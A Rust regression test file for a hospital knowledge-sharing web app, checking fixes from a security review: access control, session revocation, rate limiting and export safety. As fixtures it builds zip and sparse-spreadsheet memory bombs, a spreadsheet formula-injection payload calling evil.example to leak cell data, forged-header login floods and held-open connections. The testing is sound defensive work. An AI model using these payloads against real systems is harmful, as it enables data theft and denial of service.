//! The weaknesses a security review found, each tried the way an attacker who is also
//! a signed-in colleague would try it. Every test here failed before its fix.
use crate::common;

use std::io::Write;

use chrono::{Duration, Utc};
use common::{Backend, TestApp};
use reqwest::StatusCode;
use serde_json::{Value, json};
use signpost_domain::ids::{ActionId, PlanId, SessionId};

on_both_backends!(
    a_colleague_cannot_take_over_anothers_knowledge_through_a_leaver_plan,
    a_version_history_keeps_to_who_could_read_each_version,
    an_admin_ends_someones_sessions_and_tokens_and_tokens_can_expire,
    the_database_holds_the_rules_that_races_used_to_break,
);

fn in_days(days: i64) -> String {
    (Utc::now() + Duration::days(days)).date_naive().to_string()
}

fn fields(err: &Value) -> Vec<String> {
    err["errors"].as_array().unwrap().iter().map(|e| e["field"].as_str().unwrap().to_string()).collect()
}

async fn a_colleague_cannot_take_over_anothers_knowledge_through_a_leaver_plan(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let (alice, bob) = (t.users["alice"], t.users["bob"]);
    let (_, draft) = t.post("alice", "/api/v1/assets", common::lesson("Alice's draft", t.teams["Ward A"], "team", "draft")).await;
    let draft = draft["id"].as_i64().unwrap();
    let plan = || json!({ "leaver_id": alice, "departure": "leaving", "leaving_on": in_days(30), "role": "Sister" });
    // The line manager comes from alice's account, recorded by an administrator.
    let (status, body) = t.put("admin", &format!("/api/v1/users/{alice}"), json!({ "line_manager_id": bob })).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, _) = t.put("alice", &format!("/api/v1/users/{alice}"), json!({ "line_manager_id": t.users["spec"] })).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "alice cannot choose her own manager");

    // bob, though recorded as her manager, cannot start a plan for her.
    let (status, err) = t.post("bob", "/api/v1/leaver-plans", plan()).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");

    // alice starts it; bob is her manager, and until he accepts he has no say over her plan.
    let (status, started) = t.post("alice", "/api/v1/leaver-plans", plan()).await;
    assert_eq!(status, StatusCode::CREATED, "{started}");
    let id = started["id"].as_i64().unwrap();
    let (_, news) = t.get("bob", "/api/v1/notifications").await;
    assert!(news[0]["text"].as_str().unwrap().contains("accept it"), "bob is asked to accept: {news}");
    let (_, view) = t.get("bob", &format!("/api/v1/leaver-plans/{id}")).await;
    assert_eq!((view["may"]["manage"].as_bool(), view["may"]["accept_manager"].as_bool()), (Some(false), Some(true)), "{view}");
    let handover = json!({ "moves": [{ "holding": format!("asset-{draft}"), "to": bob }] });
    assert_eq!(t.post("bob", &format!("/api/v1/leaver-plans/{id}/handover"), handover.clone()).await.0, StatusCode::FORBIDDEN);
    let mut changed = plan();
    changed["successor_id"] = json!(bob);
    assert_eq!(t.put("bob", &format!("/api/v1/leaver-plans/{id}"), changed).await.0, StatusCode::FORBIDDEN);
    assert_eq!(t.post("alice", &format!("/api/v1/leaver-plans/{id}/accept"), json!({})).await.0, StatusCode::FORBIDDEN, "only bob accepts");

    // Accepted, he manages the plan, but still cannot take what he could not change himself.
    assert_eq!(t.post("bob", &format!("/api/v1/leaver-plans/{id}/accept"), json!({})).await.0, StatusCode::OK);
    let (status, err) = t.post("bob", &format!("/api/v1/leaver-plans/{id}/handover"), handover.clone()).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
    let (_, still) = t.get("alice", &format!("/api/v1/assets/{draft}")).await;
    assert_eq!(still["owner_id"], alice, "the draft stays hers");
    let (_, view) = t.get("bob", &format!("/api/v1/leaver-plans/{id}")).await;
    assert_eq!(view["holdings"][0]["label"], "An asset you cannot see");
    assert_eq!(view["holdings"][0]["detail"], "", "not even its kind or status");

    // A second open plan for alice is refused by the database itself, so no race between
    // two requests can get past it.
    assert_eq!(t.post("spec", "/api/v1/leaver-plans", plan()).await.0, StatusCode::CONFLICT);
    {
        use signpost_domain::audit::AuditRecord;
        use signpost_domain::ports::RetentionStore;
        let db = signpost_store::Db::connect(t.db.location("node").database.as_deref().unwrap()).await.unwrap();
        let second = signpost_domain::retention::LeaverPlan { id: PlanId(0), revision: 0, ..db.leaver_plan(PlanId(id)).await.unwrap() };
        let saved = db.save_leaver_plan(&second, &[], AuditRecord::new(None, "test", "a second open plan")).await;
        assert!(matches!(saved, Err(signpost_domain::StoreError::Conflict(_))), "{saved:?}");
        db.close().await;
    }

    // Filing a handover note is checked against the team it is filed in: Ward A's, not bob's.
    let (_, with_area) = t.post("alice", &format!("/api/v1/leaver-plans/{id}/areas"), json!({ "title": "Night rota" })).await;
    let area = with_area["areas"][0]["id"].as_i64().unwrap();
    let score = json!({ "scores": [{ "area_id": area, "importance": 3, "availability": 3, "frequency": 3 }], "agree": true });
    assert_eq!(t.post("bob", &format!("/api/v1/leaver-plans/{id}/scores"), score).await.0, StatusCode::OK);
    let (_, with_action) =
        t.post("alice", &format!("/api/v1/leaver-plans/{id}/areas/{area}/actions"), json!({ "tool": "handover_note" })).await;
    let action = with_action["areas"][0]["actions"][0]["id"].as_i64().unwrap();
    let note = json!({ "title": "Night rota", "body": "The rota closes on the 20th.", "key_contacts": [] });
    let (status, err) = t.post("bob", &format!("/api/v1/leaver-plans/{id}/actions/{action}/output"), note.clone()).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["team_id".to_string()]), "{err}");
    assert_eq!(t.post("alice", &format!("/api/v1/leaver-plans/{id}/actions/{action}/output"), note).await.0, StatusCode::CREATED);
}

/// A workbook whose `Assessments` sheet has one cell at A1 and one at XFD1048576: 1.6 KB
/// that a reader laying the sheet out densely would need 512 GiB for.
fn sparse_bomb() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet().set_name("Assessments").unwrap();
    sheet.write_string(0, 0, "Model").unwrap();
    sheet.write_string(1_048_575, 16_383, "far away").unwrap();
    book.add_worksheet().set_name("Actions").unwrap();
    book.save_to_buffer().unwrap()
}

/// A zip of a few kilobytes with one part that unpacks to 40 MiB.
fn deflate_bomb() -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut out);
    let deflated = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("xl/sharedStrings.xml", deflated).unwrap();
    let zeros = vec![b'0'; 1024 * 1024];
    for _ in 0..40 {
        zip.write_all(&zeros).unwrap();
    }
    zip.finish().unwrap();
    out.into_inner()
}

async fn import(t: &TestApp, who: &str, body: Vec<u8>) -> (StatusCode, Value) {
    let url = format!("{}/api/v1/maturity/assessments/import", t.base);
    let res = t.client.post(url).bearer_auth(&t.tokens[who]).body(body).send().await.unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spreadsheet_built_to_exhaust_memory_is_refused_naming_the_limit() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let bomb = sparse_bomb();
    assert!(bomb.len() < 8 * 1024, "the attack is small: {} bytes", bomb.len());
    let (status, err) = import(&t, "alice", bomb.clone()).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{err}");
    assert!(err["message"].as_str().unwrap().contains("row 1048576 column 16384"), "{err}");
    let (status, err) = import(&t, "alice", deflate_bomb()).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{err}");
    assert!(err["message"].as_str().unwrap().contains("unpacks to more than 32 MiB"), "{err}");
    assert_eq!(t.client.get(format!("{}/healthz", t.base)).send().await.unwrap().status(), StatusCode::OK, "the server lives");

    // Permission comes before parsing: a guest's model is refused before it is read.
    let guest = t.app.actor(t.users["guest"]).await.unwrap();
    let refused = t.app.load_model_xlsx(&guest, &bomb).await;
    assert!(matches!(refused, Err(signpost_services::ServiceError::Forbidden(_))), "{refused:?}");
    assert_eq!(import(&t, "guest", bomb).await.0, StatusCode::FORBIDDEN);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_participant_cannot_make_themselves_facilitator_to_share_private_answers() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let people = json!([t.users["alice"], t.users["bob"]]);
    let body = json!({"technique_key": "premortem", "facilitator_id": t.users["spec"], "participants": people});
    let (_, session) = t.post("spec", "/api/v1/sessions", body).await;
    let path = format!("/api/v1/sessions/{}", session["id"]);
    t.post("alice", &format!("{path}/answers"), json!({"field": "reasons", "body": "Porters were never told"})).await;
    let record = |facilitator: i64| json!({"title": "Premortem", "held_on": Utc::now().date_naive().to_string(), "participants": people, "facilitator_id": facilitator});
    let (status, err) = t.put("bob", &path, record((t.users["bob"]).0)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
    assert_eq!(t.post("bob", &format!("{path}/share"), json!({})).await.0, StatusCode::FORBIDDEN);
    let (_, view) = t.get("bob", &path).await;
    assert_eq!(view["contributions"], json!([]), "alice's answer stays hers");
    assert_eq!(t.put("bob", &path, record((t.users["spec"]).0)).await.0, StatusCode::OK, "bob still records in the session");

    // A directorate's project is not every ward's to run: bob (Ward B) cannot record in it.
    let (_, project) =
        t.post("spec", "/api/v1/projects", json!({"title": "Clinical audit", "team_id": t.teams["Clinical"], "tags": []})).await;
    let (status, project_session) =
        t.post("spec", "/api/v1/sessions", json!({"technique_key": "premortem", "project_id": project["id"]})).await;
    assert_eq!(status, StatusCode::CREATED, "{project_session}");
    let path = format!("/api/v1/sessions/{}", project_session["id"]);
    let (status, err) = t.put("bob", &path, json!({"title": "Taken over", "facilitator_id": t.users["bob"]})).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guests_read_names_only_and_emails_follow_the_profile_audience() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let profile = json!({ "audience": "team", "suggest_me": true, "skills": ["Rostering"] });
    assert_eq!(t.put("alice", "/api/v1/profile", profile).await.0, StatusCode::OK);
    let find = |page: &Value, name: &str| page["items"].as_array().unwrap().iter().find(|u| u["name"] == name).cloned().unwrap();

    let (_, page) = t.get("guest", "/api/v1/users").await;
    let spec = find(&page, "spec");
    assert_eq!((spec["email"].as_str(), spec["team_id"].as_i64()), (Some(""), None), "a guest reads a name: {spec}");
    let (_, one) = t.get("guest", &format!("/api/v1/users/{}", t.users["admin"])).await;
    assert_eq!(one["email"], "", "{one}");

    let (_, page) = t.get("bob", "/api/v1/users").await;
    assert_eq!(find(&page, "alice")["email"], "", "alice shares her profile with her team only");
    assert_eq!(find(&page, "spec")["email"], "spec@trust.nhs.uk", "spec's profile is for all staff");
    let (_, page) = t.get("guest", "/api/v1/users").await;
    assert_eq!(find(&page, "guest")["email"], "guest@trust.nhs.uk", "everyone reads their own");
    let (_, page) = t.get("admin", "/api/v1/users").await;
    assert_eq!(find(&page, "alice")["email"], "alice@trust.nhs.uk", "admins read every account");
    let (_, members) = t.get("bob", &format!("/api/v1/people/{}/profile", t.users["alice"])).await;
    assert_eq!(members["user"]["email"], "", "{members}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn words_that_look_like_formulas_stay_text_in_every_download() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let (_, open) = t.post("alice", "/api/v1/assets", common::lesson("For everyone", t.teams["Ward A"], "organisation", "published")).await;
    let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let statement = json!({ "subject": { "kind": "asset", "id": open["id"] }, "kind": "used_it", "quote": attack, "attributed_to": "@Sam", "stakeholder": "team" });
    assert_eq!(t.post("bob", "/api/v1/impact", statement).await.0, StatusCode::CREATED);
    let today = Utc::now().date_naive();
    let get = |path: String| t.client.get(format!("{}{path}", t.base)).bearer_auth(&t.tokens["spec"]).send();
    let csv = get(format!("/api/v1/reports/programme.csv?from={today}&to={today}")).await.unwrap().text().await.unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.lines().any(|l| l.split(',').any(|cell| cell.starts_with('=') || cell.starts_with("\"="))), "{csv}");

    let xlsx = get(format!("/api/v1/reports/programme.xlsx?from={today}&to={today}")).await.unwrap().bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "the quote is marked as text: {styles}");
}

/// What Python's csv module or openpyxl reads in a downloaded file.
fn spreadsheet_reads(name: &str, bytes: &[u8]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/read_spreadsheet.py");
    let out = std::process::Command::new("python3").arg(&script).arg(&path).output().expect("python3 runs");
    assert!(out.status.success(), "{} failed: {}", script.display(), String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_open_in_a_spreadsheet_with_accents_named_columns_and_no_formulas() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let mut lesson = common::lesson("Café handover — Ward A", t.teams["Ward A"], "organisation", "published");
    lesson["summary"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
    assert_eq!(t.post("alice", "/api/v1/assets", lesson).await.0, StatusCode::CREATED);
    let private = common::lesson("Ward B's handover rota", t.teams["Ward B"], "team", "published");
    assert_eq!(t.post("bob", "/api/v1/assets", private).await.0, StatusCode::CREATED);
    t.settle().await;
    let get = |path: &str, who: &str| t.client.get(format!("{}{path}", t.base)).bearer_auth(&t.tokens[who]).send();

    // The asset list of a search, as CSV: the mark Excel needs, accents, the formula neutralised.
    let res = get("/api/v1/search/export.csv?q=handover", "alice").await.unwrap();
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = spreadsheet_reads("knowledge.csv", &res.bytes().await.unwrap());
    assert_eq!(csv["bom"], true, "{csv}");
    let rows = csv["rows"].as_array().unwrap();
    assert_eq!(rows[0][0], "Title");
    assert_eq!(rows[0].as_array().unwrap().len(), 10, "{csv}");
    assert_eq!(rows.len(), 2, "only what alice may see: {csv}");
    assert_eq!(rows[1][0], "Café handover — Ward A");
    assert_eq!(rows[1][1], "Lesson");
    assert_eq!(rows[1][3], "Ward A");
    assert!(rows[1][5].as_str().unwrap().starts_with("'="), "{csv}");
    assert!(rows[1][9].as_str().unwrap().starts_with("/assets/"), "a link to the asset: {csv}");

    // The same list as a workbook: named columns, dates as dates, text as text.
    let res = get("/api/v1/search/export.xlsx?q=handover", "alice").await.unwrap();
    let book = spreadsheet_reads("knowledge.xlsx", &res.bytes().await.unwrap());
    assert_eq!(book["formulas"], json!([]), "{book}");
    let sheet = &book["sheets"]["Knowledge"];
    assert_eq!(sheet[0], json!(["Title", "Type", "Status", "Team", "Owner", "Summary", "Last updated", "Next review", "Review", "Link"]));
    assert_eq!(sheet[1][0], "Café handover — Ward A");
    assert_eq!(sheet[1][5], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "shown as written, as text");
    assert_eq!(sheet[1][6], Utc::now().date_naive().to_string());
    assert_eq!(sheet.as_array().unwrap().len(), 2, "{book}");
    let (status, _) = t.get("alice", "/api/v1/search/export.csv?kind=nonsense").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    // The programme report: the mark in its CSV, and sheets whose headers name their columns.
    let today = Utc::now().date_naive();
    let res = get(&format!("/api/v1/reports/programme.csv?from={today}&to={today}"), "spec").await.unwrap();
    let report = spreadsheet_reads("report.csv", &res.bytes().await.unwrap());
    assert_eq!(report["bom"], true);
    assert_eq!(report["rows"][0], json!(["Section", "Item", "Detail", "Value"]));
    let res = get(&format!("/api/v1/reports/programme.xlsx?from={today}&to={today}"), "spec").await.unwrap();
    let book = spreadsheet_reads("report.xlsx", &res.bytes().await.unwrap());
    assert_eq!(book["formulas"], json!([]));
    assert_eq!(book["sheets"]["Period"][0], json!(["From", "To"]));
    assert_eq!(book["sheets"]["Summary"][0], json!(["Measure", "Value"]));
    for (name, rows) in book["sheets"].as_object().unwrap() {
        assert_ne!(rows[0], json!(["Item", "Detail", "Value"]), "{name} names its columns");
    }
}

async fn a_version_history_keeps_to_who_could_read_each_version(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let ward_a = t.teams["Ward A"];
    // alice drafts for her ward only, then widens it to everyone without the draft's aside.
    let mut draft = common::lesson("Night handover", ward_a, "team", "draft");
    draft["body"] = json!("Ward A only: the night sister's private rota notes.");
    let (_, created) = t.post("alice", "/api/v1/assets", draft).await;
    let id = created["id"].as_i64().unwrap();
    let mut widened = common::lesson("Night handover", ward_a, "organisation", "published");
    widened["expected_version"] = json!(1);
    assert_eq!(t.put("alice", &format!("/api/v1/assets/{id}"), widened).await.0, StatusCode::OK);

    let (_, history) = t.get("bob", &format!("/api/v1/assets/{id}/history")).await;
    let readable: Vec<bool> = history["items"].as_array().unwrap().iter().map(|v| v["readable"].as_bool().unwrap()).collect();
    assert_eq!(readable, [true, false], "bob could never read the team draft: {history}");
    let (status, diff) = t.get("bob", &format!("/api/v1/assets/{id}/diff?from=1&to=2")).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{diff}");
    assert!(!diff.to_string().contains("private rota"), "{diff}");
    assert_eq!(t.get("alice", &format!("/api/v1/assets/{id}/diff?from=1&to=2")).await.0, StatusCode::OK, "its author still compares");

    // A specialist published a number on purpose, then took it out: readers see it masked.
    let mut with_number = common::lesson("Clinic letters", t.teams["Library"], "organisation", "draft");
    with_number["body"] = json!("Example letter for patient 943 476 5919.");
    let (_, letters) = t.post("spec", "/api/v1/assets", with_number.clone()).await;
    let letters = letters["id"].as_i64().unwrap();
    let reason = json!({ "override_reason": "Agreed with the Caldicott guardian" });
    assert_eq!(t.post("spec", &format!("/api/v1/assets/{letters}/publish"), reason).await.0, StatusCode::OK);
    with_number["body"] = json!("Example letter for the patient.");
    with_number["status"] = json!("published");
    with_number["expected_version"] = json!(2);
    assert_eq!(t.put("spec", &format!("/api/v1/assets/{letters}"), with_number).await.0, StatusCode::OK);
    let (status, diff) = t.get("bob", &format!("/api/v1/assets/{letters}/diff?from=2&to=3")).await;
    assert_eq!(status, StatusCode::OK, "{diff}");
    let text = diff["diff"].as_str().unwrap();
    assert!(text.contains("*** *** *919") && !text.contains("943 476 5919"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lists_are_measured_before_they_are_worked_on_and_identifiers_stay_out_of_every_text() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    // A body of ~150,000 tags: refused on its size, naming the field and the limit.
    let mut huge = common::lesson("Tags", t.teams["Ward A"], "organisation", "draft");
    huge["tags"] = json!((0..150_000).map(|i| format!("t{i}")).collect::<Vec<_>>());
    let (status, err) = t.post("alice", "/api/v1/assets", huge).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["tags".to_string()]), "{err}");
    assert!(err["errors"][0]["message"].as_str().unwrap().contains("at most 50"), "{err}");
    let mut viewers = common::lesson("Viewers", t.teams["Ward A"], "named", "draft");
    viewers["named_viewers"] = json!(vec![t.users["bob"]; 5_000]);
    assert_eq!(fields(&t.post("alice", "/api/v1/assets", viewers).await.1), ["named_viewers"]);
    let skills = json!({ "audience": "staff", "suggest_me": true, "skills": vec!["rostering"; 100_000] });
    let (status, err) = t.put("alice", "/api/v1/profile", skills).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["skills".to_string()]), "{err}");
    let long = "flu ".repeat(2_000);
    let (status, err) = t.get("alice", &format!("/api/v1/questions/similar?q={long}")).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{err}");

    // An NHS number is refused wherever colleagues read what is written, not only in assets.
    let (_, community) = t.post("alice", "/api/v1/communities", json!({ "name": "Night nursing", "description": "Nights." })).await;
    let question = json!({ "title": "Who reviews falls?", "body": "Patient 943 476 5919 fell twice." });
    let (status, err) = t.post("alice", &format!("/api/v1/communities/{}/questions", community["id"]), question).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["body".to_string()]), "{err}");
    assert!(err["errors"][0]["message"].as_str().unwrap().contains("*** *** *919"), "the message does not repeat it: {err}");
    let (status, err) =
        t.put("alice", "/api/v1/profile", json!({ "audience": "staff", "suggest_me": true, "skills": ["nhs 943 476 5919"] })).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["skills[0]".to_string()]), "{err}");
}

async fn an_admin_ends_someones_sessions_and_tokens_and_tokens_can_expire(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let signed_in = t
        .client
        .post(format!("{}/api/v1/session", t.base))
        .json(&json!({ "email": "alice@trust.nhs.uk", "password": common::PASSWORD }))
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status(), StatusCode::OK);
    let cookie = signed_in.headers()[reqwest::header::SET_COOKIE].to_str().unwrap().split(';').next().unwrap().to_string();
    let me = || t.client.get(format!("{}/api/v1/me", t.base)).header(reqwest::header::COOKIE, cookie.clone()).send();
    assert_eq!(me().await.unwrap().status(), StatusCode::OK);
    let path = format!("/api/v1/users/{}/revoke-access", t.users["alice"]);
    assert_eq!(t.post("spec", &path, json!({})).await.0, StatusCode::FORBIDDEN, "admins only");
    let (status, revoked) = t.post("admin", &path, json!({})).await;
    assert_eq!(status, StatusCode::OK, "{revoked}");
    assert_eq!((revoked["tokens"].as_u64(), revoked["sessions"].as_u64()), (Some(1), Some(1)), "{revoked}");
    assert_eq!(t.get("alice", "/api/v1/me").await.0, StatusCode::UNAUTHORIZED, "her token is revoked");
    assert_eq!(me().await.unwrap().status(), StatusCode::UNAUTHORIZED, "her session is over");

    let (status, err) = t.post("bob", "/api/v1/tokens", json!({ "name": "old", "expires_on": "2020-01-01" })).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["expires_on".to_string()]));
    let today = Utc::now().date_naive().to_string();
    let (status, made) = t.post("bob", "/api/v1/tokens", json!({ "name": "today only", "expires_on": today })).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    assert!(made["token"]["expires_at"].is_string(), "{made}");
    let secret = made["secret"].as_str().unwrap();
    let with = |token: &str| t.client.get(format!("{}/api/v1/me", t.base)).bearer_auth(token.to_string()).send();
    assert_eq!(with(secret).await.unwrap().status(), StatusCode::OK, "it works until the day ends");
    // The store answers as it will tomorrow.
    let db = signpost_store::Db::connect(t.db.location("node").database.as_deref().unwrap()).await.unwrap();
    use signpost_domain::ports::Store;
    let hash = signpost_services::accounts::secret_hash(secret);
    assert!(db.token_user(&hash, Utc::now() + Duration::days(2)).await.unwrap().is_none(), "expired the day after");
    db.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn people_keep_their_choices_and_bands_from_organisers_and_partners() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    // alice coordinates a community and organises its coffee programme; bob joins it.
    let (_, c) = t.post("alice", "/api/v1/communities", json!({ "name": "Link nurses" })).await;
    let cid = c["id"].as_i64().unwrap();
    t.post("bob", &format!("/api/v1/communities/{cid}/members"), json!({})).await;
    t.post("spec", &format!("/api/v1/communities/{cid}/members"), json!({})).await;
    let scoped = json!({ "name": "Link coffee", "scope": { "kind": "community", "community_id": cid }, "cadence_weeks": 2, "avoid_repeat_rounds": 1 });
    let (_, p) = t.post("alice", "/api/v1/coffee", scoped).await;
    let pid = p["id"].as_i64().unwrap();
    t.put("bob", "/api/v1/profile", json!({ "audience": "team", "suggest_me": true, "band": "Band 8a" })).await;
    t.post("alice", &format!("/api/v1/coffee/{pid}/participants"), json!({})).await;
    t.post("spec", &format!("/api/v1/coffee/{pid}/participants"), json!({})).await;
    let (status, _) = t.post("bob", &format!("/api/v1/coffee/{pid}/participants"), json!({ "do_not_pair": [t.users["spec"]] })).await;
    assert_eq!(status, StatusCode::OK);
    let (status, outcome) = t.post("alice", &format!("/api/v1/coffee/{pid}/rounds"), json!({})).await;
    assert_eq!(status, StatusCode::CREATED, "{outcome}");
    assert_eq!(outcome["round"]["do_not_pair"], json!([]), "the organiser does not learn whom bob avoids: {outcome}");
    assert!(!outcome.to_string().contains("Band 8a"), "nor his band: {outcome}");

    // Mentoring: bob's band shows only to those his profile is open to.
    t.post("bob", "/api/v1/mentoring/listings", json!({ "kind": "offer", "skills": ["sepsis screening"] })).await;
    t.post("alice", "/api/v1/mentoring/listings", json!({ "kind": "request", "skills": ["sepsis screening"] })).await;
    let (_, board) = t.get("alice", "/api/v1/mentoring").await;
    assert!(!board["suggestions"].as_array().unwrap().is_empty(), "{board}");
    assert!(!board.to_string().contains("Band 8a"), "{board}");

    // Advocates: only for one's own team, and the advocates' community only by registering.
    let (status, err) = t.post("alice", "/api/v1/advocates", json!({ "user_id": t.users["alice"], "team_id": t.teams["Ward B"] })).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["team_id".to_string()]), "{err}");
    let (_, all) = t.get("bob", "/api/v1/communities").await;
    let advocates = all.as_array().unwrap().iter().find(|c| c["community"]["kind"] == "advocates").unwrap()["community"]["id"].clone();
    assert_eq!(t.post("bob", &format!("/api/v1/communities/{advocates}/members"), json!({})).await.0, StatusCode::FORBIDDEN);
}

/// A second server over the same application that believes proxies on this machine.
async fn behind_a_proxy(t: &TestApp) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let config = signpost_web::WebConfig { trusted_proxies: vec!["127.0.0.1/32".parse().unwrap()], ..Default::default() };
    tokio::spawn(signpost_web::serve(listener, t.app.clone(), config));
    base
}

async fn sign_in_from(t: &TestApp, base: &str, client: &str, password: &str) -> StatusCode {
    let body = json!({ "email": "alice@trust.nhs.uk", "password": password });
    t.client.post(format!("{base}/api/v1/session")).header("x-forwarded-for", client).json(&body).send().await.unwrap().status()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_from_one_address_locks_out_only_that_address_and_bursts_are_counted() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let proxy = behind_a_proxy(&t).await;
    for _ in 0..5 {
        assert_eq!(sign_in_from(&t, &proxy, "203.0.113.9", "wrong guess").await, StatusCode::UNAUTHORIZED);
    }
    assert_eq!(sign_in_from(&t, &proxy, "203.0.113.9", common::PASSWORD).await, StatusCode::TOO_MANY_REQUESTS, "the guesser is stopped");
    assert_eq!(sign_in_from(&t, &proxy, "198.51.100.7", common::PASSWORD).await, StatusCode::OK, "alice still signs in from her desk");

    // Without a trusted proxy, a forged header changes nothing: all 30 come from one address,
    // sent at once, and only 20 are even tried.
    let attempts: Vec<_> = (0..30)
        .map(|i| {
            let body = json!({ "email": format!("nobody{i}@trust.nhs.uk"), "password": "x" });
            let request = t.client.post(format!("{}/api/v1/session", t.base)).header("x-forwarded-for", format!("192.0.2.{i}")).json(&body);
            tokio::spawn(async move { request.send().await.unwrap().status() })
        })
        .collect();
    let mut statuses = Vec::new();
    for a in attempts {
        statuses.push(a.await.unwrap());
    }
    let tried = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    assert_eq!(tried, 20, "{statuses:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_requests_get_a_clear_4xx_and_cannot_grow_the_metrics_or_hold_connections() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    // NUL in text: 400 on both engines (PostgreSQL cannot store it), before any handler runs.
    let res = t
        .client
        .post(format!("{}/api/v1/session", t.base))
        .body(r#"{"email":"a\u0000@b","password":"x"}"#)
        .header("content-type", "application/json")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    assert_eq!(res.json::<Value>().await.unwrap()["code"], "nul_character");
    let form = t
        .client
        .post(format!("{}/sign-in", t.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("email=a%00b&password=x&csrf_token=x")
        .send()
        .await
        .unwrap();
    assert_eq!(form.status(), StatusCode::BAD_REQUEST);

    // Invented methods are counted as "other", not one series each.
    for i in 0..5 {
        let method = reqwest::Method::from_bytes(format!("PROBE{i}").as_bytes()).unwrap();
        t.client.request(method, format!("{}/healthz", t.base)).send().await.unwrap();
    }
    let metrics = t.client.get(format!("{}/metrics", t.base)).send().await.unwrap().text().await.unwrap();
    assert!(!metrics.contains("PROBE") && metrics.contains("method=\"other\""), "{metrics}");
    let proxied = t.client.get(format!("{}/metrics", t.base)).header("x-forwarded-for", "203.0.113.9").send().await.unwrap();
    assert_eq!(proxied.status(), StatusCode::NOT_FOUND, "metrics are not for whoever reaches the server through a proxy");

    // A connection that never finishes its headers is closed; the server goes on answering.
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut slow = tokio::net::TcpStream::connect(t.base.trim_start_matches("http://")).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await.unwrap();
    let mut idle = Vec::new();
    for _ in 0..200 {
        idle.push(tokio::net::TcpStream::connect(t.base.trim_start_matches("http://")).await.unwrap());
    }
    assert_eq!(t.client.get(format!("{}/healthz", t.base)).send().await.unwrap().status(), StatusCode::OK);
    let mut buf = [0u8; 64];
    let closed = tokio::time::timeout(std::time::Duration::from_secs(30), slow.read(&mut buf)).await;
    assert!(closed.is_ok(), "the slow connection is let go, not held open for ever");
}

/// The races and smaller holes: each rule now held by the database or a conditional write.
async fn the_database_holds_the_rules_that_races_used_to_break(backend: Backend) {
    use signpost_domain::audit::AuditRecord;
